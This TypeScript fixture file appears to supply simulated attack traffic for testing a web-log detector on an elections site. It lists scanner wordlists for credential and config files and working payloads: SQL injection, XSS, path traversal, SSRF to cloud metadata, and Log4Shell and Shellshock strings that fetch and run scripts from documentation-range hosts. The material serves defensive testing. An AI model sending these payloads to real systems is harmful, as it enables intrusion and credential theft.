/**
 * What attackers send. Callback hosts use documentation addresses (203.0.113.0/24, 198.51.100.0/24)
 * and reserved names so that a copied line can never reach a real machine.
 */
import type { AttackTag } from '../../model/index.js';

export interface Probe {
  method: string;
  path: string;
  tags: AttackTag[];
  /** Status this site answers with. */
  status: number;
  /** A user agent the probe itself carries (Log4Shell, Shellshock), replacing the tool's. */
  userAgent?: string;
}

const sensitive: AttackTag[] = ['sensitive-file'];
const cms: AttackTag[] = ['cms-probe'];

/** Paths that scanners walk, in the order a typical wordlist walks them. */
export const SCAN_WORDLIST: readonly Probe[] = [
  ...[
    '/.env', '/.env.local', '/.env.production', '/.env.backup', '/app/.env', '/api/.env', '/backend/.env', '/laravel/.env',
    '/.git/config', '/.git/HEAD', '/.git/index', '/.svn/entries', '/.hg/hgrc', '/.DS_Store', '/.htpasswd', '/.htaccess',
    '/.aws/credentials', '/.ssh/id_rsa', '/.npmrc', '/.vscode/sftp.json', '/.idea/workspace.xml',
  ].map((path): Probe => ({ method: 'GET', path, tags: sensitive, status: 403 })),
  ...[
    '/config.php.bak', '/wp-config.php.bak', '/wp-config.php~', '/backup.sql', '/db.sql', '/dump.sql', '/database.sql',
    '/backup.zip', '/backup.tar.gz', '/site.tar.gz', '/www.zip', '/config.json', '/config.yml', '/docker-compose.yml',
    '/web.config', '/phpinfo.php', '/info.php', '/test.php', '/server-status', '/actuator/env', '/actuator/heapdump',
    '/debug/pprof/', '/composer.lock', '/storage/logs/laravel.log', '/error.log', '/.well-known/openid-configuration',
  ].map((path): Probe => ({ method: 'GET', path, tags: sensitive, status: 404 })),
  ...[
    '/wp-admin/install.php', '/wp-admin/setup-config.php', '/wp-includes/wlwmanifest.xml',
    '/xmlrpc.php', '/wp-json/wp/v2/users', '/wp-content/plugins/revslider/temp/update_extract/', '/wordpress/wp-login.php',
    '/blog/wp-login.php', '/administrator/', '/user/login', '/phpmyadmin/', '/phpMyAdmin/index.php', '/pma/', '/myadmin/',
    '/adminer.php', '/manager/html', '/jenkins/login', '/solr/admin/', '/owa/auth/logon.aspx', '/remote/login',
    '/vpn/index.html', '/cgi-bin/luci', '/boaform/admin/formLogin', '/HNAP1/', '/console/', '/login.action',
    '/geoserver/web/', '/_ignition/health-check', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  ].map((path): Probe => ({ method: 'GET', path, tags: cms, status: 404 })),
  // The site's newsroom runs WordPress, so these two exist.
  { method: 'GET', path: '/wp-login.php', tags: cms, status: 200 },
  { method: 'GET', path: '/wp-admin/', tags: cms, status: 302 },
  ...['admin', 'backup', 'backups', 'old', 'test', 'dev', 'staging', 'tmp', 'temp', 'logs', 'private', 'secret', 'uploads',
    'files', 'data', 'db', 'sql', 'api/v1', 'api/v2', 'internal', 'portal', 'dashboard', 'cpanel', 'webmail', 'mail', 'setup',
    'install', 'panel', 'system', 'cms', 'shop', 'app', 'src', 'bin', 'cgi-bin', 'scripts', 'includes', 'inc', 'lib', 'media',
  ].flatMap((word) =>
    ['/', '.php', '.bak', '.zip', ''].map((ext): Probe => ({ method: 'GET', path: `/${word}${ext}`, tags: [], status: 404 })),
  ),
  { method: 'GET', path: '/robots.txt', tags: [], status: 200 },
  { method: 'GET', path: '/sitemap.xml', tags: [], status: 200 },
  { method: 'GET', path: '/', tags: [], status: 200 },
  { method: 'GET', path: '/.well-known/security.txt', tags: [], status: 200 },
];

const JNDI = '${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMjAzLjAuMTEzLjkveC5zaA==}';
const JNDI_OBFUSCATED = '${${lower:j}${::-n}di:${lower:l}dap://198.51.100.23:1389/a}';

function get(path: string, tags: AttackTag[], status = 400, userAgent?: string): Probe {
  return userAgent === undefined ? { method: 'GET', path, tags, status } : { method: 'GET', path, tags, status, userAgent };
}

export const SQLI_PROBES: readonly Probe[] = [
  get("/api/results?riding=35001'", ['sqli'], 500),
  get("/api/results?riding=35001%27%20OR%20%271%27%3D%271", ['sqli']),
  get('/api/results?riding=35001%20AND%201%3D1--', ['sqli']),
  get('/api/results?riding=-1%20UNION%20SELECT%20NULL%2CNULL%2CNULL--', ['sqli']),
  get('/api/results?riding=1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--', ['sqli'], 403),
  get('/api/results?riding=35001%27%20AND%20SLEEP(5)--%20-', ['sqli']),
  get("/api/results?riding=35001);WAITFOR%20DELAY%20'0:0:5'--", ['sqli']),
  get('/en/where-to-vote?postal=K1A0B1%2527%2520OR%25201%253D1', ['sqli']),
  get('/en/where-to-vote?postal=K1A%27%7C%7C(SELECT%20version())%7C%7C%27', ['sqli']),
  get('/fr/ou-voter?code_postal=H2X%27%20UnIoN%20SeLeCt%201,2,3--%20-', ['sqli'], 403),
  get('/api/results?riding=35001%20AND%203813%3D3813', ['sqli'], 200),
  get('/api/results?riding=35001%27%29%20AND%208517%3D8517%20AND%20%28%27xYzA%27%3D%27xYzA', ['sqli']),
  get('/api/results?riding=35001%20AND%20EXTRACTVALUE(4235,CONCAT(0x5c,0x7176627071,(SELECT%20(ELT(4235=4235,1))),0x7178767071))', ['sqli']),
  get('/en/candidates/35001?name=%27;DROP%20TABLE%20candidates;--', ['sqli']),
];

export const XSS_PROBES: readonly Probe[] = [
  get('/en/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', ['xss'], 200),
  get('/fr/recherche?q=%22%3E%3Csvg%2Fonload%3Dalert(document.domain)%3E', ['xss'], 200),
  get('/en/search?q=<img%20src=x%20onerror=alert(1)>', ['xss'], 200),
  get('/en/search?q=javascript:alert(document.cookie)', ['xss'], 200),
  get('/en/where-to-vote?postal=%3Ciframe%20src%3Djavascript%3Aalert%281%29%3E', ['xss']),
  get('/results/riding/35001?lang=%22%20onmouseover%3D%22alert(1)', ['xss']),
];

export const TRAVERSAL_PROBES: readonly Probe[] = [
  get('/../../../../etc/passwd', ['path-traversal']),
  get('/assets/..%2f..%2f..%2f..%2fetc%2fpasswd', ['path-traversal']),
  get('/images/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', ['path-traversal']),
  get('/en/faq?page=....//....//....//....//etc/passwd', ['path-traversal']),
  get('/fr/faq?lang=..%5c..%5c..%5c..%5cwindows%5cwin.ini', ['path-traversal']),
  get('/download?file=../../../../../proc/self/environ', ['path-traversal'], 404),
  get('/en/faq?page=php://filter/convert.base64-encode/resource=index.php', ['path-traversal', 'code-injection']),
];

export const RFI_PROBES: readonly Probe[] = [
  get('/en/faq?page=http://203.0.113.50/shell.txt?', ['rfi']),
  get('/index.php?file=https://198.51.100.7/r57.txt%00', ['rfi'], 404),
];

export const COMMAND_PROBES: readonly Probe[] = [
  get('/api/ping?host=127.0.0.1;cat%20/etc/passwd', ['command-injection'], 404),
  get('/en/search?q=%7Cid', ['command-injection'], 200),
  get('/en/search?q=$(whoami)', ['command-injection'], 200),
  get('/en/search?q=%60id%60', ['command-injection'], 200),
  get('/api/results?riding=35001;wget%20http://203.0.113.7/x.sh%20-O-%7Csh', ['command-injection']),
  { method: 'POST', path: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', tags: ['path-traversal', 'command-injection'], status: 400 },
  get('/cgi-bin/status', ['command-injection'], 404, '() { :; }; /bin/bash -c "wget http://203.0.113.7/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot"'),
];

export const CODE_PROBES: readonly Probe[] = [
  get('/', ['code-injection'], 200, JNDI),
  get('/en/', ['code-injection'], 200, JNDI_OBFUSCATED),
  get('/?x=$%7Bjndi:ldap://203.0.113.9:1389/a%7D', ['code-injection'], 200),
  get('/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP', ['code-injection'], 404),
  get('/en/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di', ['code-injection']),
  get('/login.action?redirect:%24%7B%23a%3D(new%20java.lang.ProcessBuilder(new%20java.lang.String%5B%5D%7B%22id%22%7D)).start()%7D', ['code-injection'], 404),
];

export const SSRF_PROBES: readonly Probe[] = [
  get('/api/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', ['ssrf'], 404),
  get('/en/?next=http://169.254.169.254/computeMetadata/v1/', ['ssrf']),
  get('/api/preview?url=http://%5B::ffff:a9fe:a9fe%5D/latest/meta-data/', ['ssrf'], 404),
  get('/api/preview?url=http://127.0.0.1:2375/containers/json', ['ssrf'], 404),
  get('/api/preview?url=http://metadata.google.internal/computeMetadata/v1/', ['ssrf'], 404),
  get('/api/preview?url=file:///etc/passwd', ['ssrf', 'path-traversal'], 404),
];

export interface Tool {
  name: string;
  userAgent: string;
  /** The user agent names the tool, so a detector may tag it `scanner-tool`. */
  announced: boolean;
}

export const SCAN_TOOLS: readonly Tool[] = [
  { name: 'nikto', userAgent: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003175)', announced: true },
  { name: 'nuclei', userAgent: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', announced: true },
  { name: 'zgrab', userAgent: 'Mozilla/5.0 zgrab/0.x', announced: true },
  { name: 'gobuster', userAgent: 'gobuster/3.6', announced: true },
  { name: 'ffuf', userAgent: 'Fuzz Faster U Fool v2.1.0-dev', announced: true },
  { name: 'wpscan', userAgent: 'WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)', announced: true },
  { name: 'nmap', userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', announced: true },
  { name: 'python-requests', userAgent: 'python-requests/2.32.3', announced: false },
  { name: 'go-http-client', userAgent: 'Go-http-client/1.1', announced: false },
  { name: 'curl', userAgent: 'curl/8.5.0', announced: false },
  { name: 'fake-browser', userAgent: 'Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36', announced: false },
  { name: 'fake-browser', userAgent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.0.3 Safari/605.1.15', announced: false },
];

export const SQLMAP: Tool = { name: 'sqlmap', userAgent: 'sqlmap/1.8.11#stable (https://sqlmap.org)', announced: true };

export const CRAWLER_USER_AGENTS = {
  googlebot: [
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  ],
  bingbot: ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'],
  applebot: [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)',
  ],
} as const;
export type CrawlerName = keyof typeof CRAWLER_USER_AGENTS;

/** Paths a credential-stuffing bot posts to, and what the site answers to a wrong password. */
export const LOGIN_TARGETS = [
  { path: '/login', failStatus: 401, failBytes: 1_342, referer: 'https://elections.example/login' },
  { path: '/wp-login.php', failStatus: 200, failBytes: 4_410, referer: '-' },
] as const;
